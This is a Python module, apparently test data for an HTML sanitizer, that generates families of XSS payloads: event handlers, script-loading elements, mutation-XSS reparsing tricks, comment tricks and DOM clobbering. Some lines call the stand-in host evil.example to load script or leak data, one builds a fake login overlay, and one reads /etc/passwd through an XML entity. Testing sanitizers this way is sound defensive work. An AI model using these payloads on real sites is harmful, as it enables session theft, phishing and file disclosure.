"""Payloads that are markup: what sanitizers are tried with, by the trick that each family plays."""

from __future__ import annotations

from itertools import pairwise

from .model import CALL, Payload, family, lines

_TAGS = ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "select autofocus", "marquee", "p", "a href=#x",
         "iframe", "object", "audio src=x", "style", "math", "b", "table", "td", "li", "figure", "x-own", "button", "isindex")  # fmt: skip
_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationstart", "onbegin",
           "onpointerenter", "onbeforetoggle", "onscrollsnapchange", "oncontentvisibilityautostatechange", "ONERROR", "oN\nload")  # fmt: skip


def handlers() -> list[Payload]:
    """Event handlers: every element with one, every event on one, and the ways to write an attribute."""
    forms = (
        f"<img/src=x/onerror={CALL}>", f'<img src="x"onerror="{CALL}">', f"<img src='x'onerror='{CALL}'>",
        f"<img src=x\x0conerror={CALL}>", f"<img src=x onerror\t=\n{CALL}>", f"<img src=`x`onerror={CALL}>",
        "<img src=x onerror=&#97;lert(1)>", f'<img """><img src=x onerror={CALL}>">', f"<IMG SRC=x ONERROR={CALL}//",
        f"<img src=x:x onerror={CALL} title=\"/>\">", f"<<img src=x onerror={CALL}>", f"<img\x00src=x onerror={CALL}>",
        f'<a title="&quot;&gt;<img src=x onerror={CALL}>">words</a>', f"<p title='x' onclick={CALL} title='y'>words</p>",
    )  # fmt: skip
    return family(
        "handlers",
        *(f"<{tag} {_EVENTS[n % len(_EVENTS)]}={CALL}>words</{tag.split()[0]}>" for n, tag in enumerate(_TAGS)),
        *(f'<div {event}="{CALL}">words of a div</div>' for event in _EVENTS),
        *forms,
    )  # fmt: skip


def elements() -> list[Payload]:
    """Elements that run, load, redirect, restyle or send something by being there."""
    data = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    return lines(
        "elements",
        f"""
<script>{CALL}</script>
<ScRiPt >{CALL}</sCrIpT >
<script/x>{CALL}</script
<script src=//evil.example/x.js></script>
<script type=module>import "//evil.example/x.js"</script>
<script type="text/template"><img src=x onerror={CALL}></script>
<scr<script>ipt>{CALL}</scr</script>ipt>
<style>*{{background:url(//evil.example/leak)}}</style>
<style>@import "//evil.example/x.css";</style>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=preload as=script href=//evil.example/x.js><link rel=prefetch href=//evil.example/p>
<link rel=import href="data:text/html,<script>{CALL}</script>">
<meta http-equiv=refresh content="0;url=javascript:{CALL}">
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=Set-Cookie content="a=b"><meta name=referrer content=unsafe-url>
<base href="//evil.example/"><base target=_blank>
<base href="javascript:/a/-{CALL}///////"><a href=..>words</a>
<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror={CALL}&gt;">words</iframe>
<iframe src="javascript:{CALL}"></iframe>
<iframe src="{data}"></iframe>
<frameset><frame src="javascript:{CALL}"></frameset>
<object data="{data}"></object>
<object data="javascript:{CALL}" type=text/html><p>words</p></object>
<object><param name=code value="javascript:{CALL}"></object>
<embed src="javascript:{CALL}">
<embed src="{data}" type=text/html>
<applet code=x codebase="javascript:{CALL}">words</applet>
<portal src=//evil.example/></portal><fencedframe src=//evil.example/></fencedframe>
<form action="javascript:{CALL}"><input type=submit value=words></form>
<form><button formaction="javascript:{CALL}">words</button></form>
<form id=f action=//evil.example/><input name=q></form><button form=f formaction="javascript:{CALL}">words</button>
<input type=image src=x formaction="javascript:{CALL}"><isindex action="javascript:{CALL}" type=image>
<keygen autofocus onfocus={CALL}>
<a href=# ping="//evil.example/ping">words</a>
<a href="//site.example/" target=_blank download=x.html style="position:fixed;inset:0">words</a>
<img srcset="javascript:{CALL} 1x, //evil.example/a.jpg 2x">
<picture><source srcset="javascript:{CALL}"><img src="javascript:{CALL}" alt=words></picture>
<video poster="javascript:{CALL}" src="javascript:{CALL}"><source src="javascript:{CALL}"></video>
<video><source onerror="{CALL}"></video><audio><track src="javascript:{CALL}"></audio>
<table background="javascript:{CALL}"><tr><td background="//evil.example/leak.png">words</td></tr></table>
<body background="javascript:{CALL}" bgcolor=red link=red>
<bgsound src="javascript:{CALL}"><xml id=x src="javascript:{CALL}"></xml>
<layer src=//evil.example/x.js></layer><ilayer></ilayer>
<div style="background:url(javascript:{CALL})">words of a div</div>
<div style="width:expression({CALL});behavior:url(x.htc);-moz-binding:url(x.xml#x)">words</div>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">Log in again</p>
<p style="background-image:url('//evil.example/leak?t=')">words of a paragraph</p>
<dialog open><p>words</p></dialog><div popover id=p>words</div><button popovertarget=p>words</button>
<x-own is=x-own slot=s part=p>words</x-own><template shadowrootmode=open><script>{CALL}</script></template>
<math href="javascript:{CALL}">words</math>
<math><maction actiontype="statusline#javascript:{CALL}" xlink:href="javascript:{CALL}">words</maction></math>
<svg><a xlink:href="javascript:{CALL}"><text x=20 y=20>words</text></a></svg>
<svg><a href="javascript:{CALL}"><rect width=100 height=100 /></a></svg>
<svg><animate xlink:href=#x attributeName=href values="javascript:{CALL}" /><a id=x><text x=20 y=20>words</text></a></svg>
<svg><set attributeName=onload to={CALL} /></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{CALL}</script></svg>#x" /></svg>
<svg><script>{CALL}</script></svg>
<svg><script xlink:href="data:,{CALL}" /></svg>
<svg><script>a<b/>{CALL}</script></svg>
<svg><foreignObject><iframe srcdoc="<script>{CALL}</script>"></iframe></foreignObject></svg>
<svg><image href="javascript:{CALL}" onerror={CALL} /></svg>
<svg><style>@import "//evil.example/x.css";</style></svg>
<svg><handler type=application/ecmascript>{CALL}</handler></svg>
<svg xmlns:ev="http://www.w3.org/2001/xml-events"><g ev:event=load>words</g></svg>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>" alt=words width=600 height=400>
<?xml-stylesheet type="text/xsl" href="data:,x"?><p>words of a paragraph</p>
<?php echo "{CALL}" ?><p>words</p>
<%= {CALL} %><p>words</p>
<!DOCTYPE x [<!ENTITY y "<script>{CALL}</script>">]>&y;
<!ENTITY x SYSTEM "file:///etc/passwd">&x;
""",
    )


def mutations() -> list[Payload]:
    """Markup that means one thing when it is read and another when what was written is read again."""
    img = f"<img src=x onerror={CALL}>"
    raw = ("style", "title", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe", "script", "plaintext", "listing")  # fmt: skip
    foreign = ("svg", "math", "svg><desc", "svg><title", "svg><foreignObject", "math><mtext", "math><annotation-xml",
               'math><annotation-xml encoding="text/html"', "math><mglyph", "math><mtext><mglyph", "svg></p")  # fmt: skip
    return [
        *family("raw text elements", *(f'<{tag}><p title="</{tag}>{img}">words</p>' for tag in raw),
                *(f"<{tag}>&lt;/{tag}&gt;{img.replace('<', '&lt;')}</{tag}>" for tag in raw),
                *(f"<{tag}><{other}></{tag}>{img}</{other}>" for tag, other in pairwise(raw))),
        *family("foreign content", *(f'<{around}><{tag}><a title="</{tag}>{img}">words' for around in foreign for tag in ("style", "title", "textarea"))),
        *lines("reparsing", f"""
<svg></p><style><a title="</style>{img}">
<svg><style><img src="</style>{img}">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>{img}">
<form><form><input name=x></form>{img}
<table><td><form><table><tr><td><a title="</form>{img}">words</a></table></form></table>
<svg><p><style><!--</style>{img}--></style></p></svg>
<math><mi><table><mtext><svg><style><img title="</style>{img}"></style></svg></mtext></table></mi></math>
<select><template><style><!--</style></template><a rel="--></style></template></select>{img}">words</a>
<select><option><svg><style>{img}</style></svg></option></select>
<a><svg><a title="</svg>{img}">words</a></a>
<p><svg><p>{img}</p></svg></p>
<div><svg><desc><table><style><img alt="</style>{img}">
<noscript><p title="</noscript>{img}">words</noscript>
<noscript><!--</noscript>{img}--></noscript>
<template><p title="</template>{img}">words</template>
<template><template></template>{img}</template>
<template><s>000</s><template shadowrootmode=open><img src=x onerror={CALL}></template></template>
<h1><table><h1>{img}</h1></table></h1>
<ul><li><table><li>{img}</table></ul>
<listing>&lt;img src=x onerror={CALL}&gt;</listing>
<plaintext>{img}
<image src=x onerror={CALL}>
<xmp>&lt;/xmp&gt;{img}</xmp>
<img alt="`&grave;onerror={CALL}" src=x>
<img alt="`` onerror={CALL}" src=x>
<p title="`<img src=x onerror={CALL}>`">words of a paragraph</p>
<a href="x`onmouseover={CALL}">words</a>
<a id="x" title="--><img src=x onerror={CALL}>">words</a>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror={CALL}>">
<math><annotation-xml encoding=" text/html"><style>&lt;img src=x onerror={CALL}&gt;</style></annotation-xml></math>
<svg><![CDATA[</svg>{img}]]></svg>
<math><![CDATA[><img src=x onerror={CALL}>]]></math>
"""),
        *lines("comments", f"""
<!--><img src=x onerror={CALL}>-->
<!---><img src=x onerror={CALL}>-->
<!-- --!><img src=x onerror={CALL}>-->
<!-- ><!-- --><img src=x onerror={CALL}>
<!--[if IE]><script>{CALL}</script><![endif]-->
<!--[if !mso]><!--><img src=x onerror={CALL}><!--<![endif]-->
<!-><img src=x onerror={CALL}>-->
<![CDATA[<img src=x onerror={CALL}>]]>
<![CDATA[><img src=x onerror={CALL}>]]>
<?pi ><img src=x onerror={CALL}>?>
<!x "><img src=x onerror={CALL}>">
</ "><img src=x onerror={CALL}>">
</a/onclick={CALL}><img src=x onerror={CALL}>
<!doctype html "><img src=x onerror={CALL}>">
"""),
    ]  # fmt: skip


def clobbering() -> list[Payload]:
    """Names that stand before the properties of a document or a form."""
    names = ("attributes", "body", "cookie", "currentScript", "documentElement", "getElementById", "innerHTML", "location", "nodeName",
             "parentNode", "__proto__", "constructor")  # fmt: skip
    return family(
        "clobbering",
        *(f"<p id={name} class=fn-{name}>words of a paragraph</p>" for name in names),
        *(f"<a name={name} id={name} href=//site.example/{name}>words</a>" for name in names),
        *(f"<form name=x><input name={name}></form><img name={name} src=/x.jpg alt=words width=600 height=400>" for name in names),
    )  # fmt: skip


def markup_payloads() -> list[Payload]:
    """All families of markup."""
    return [*handlers(), *elements(), *mutations(), *clobbering()]
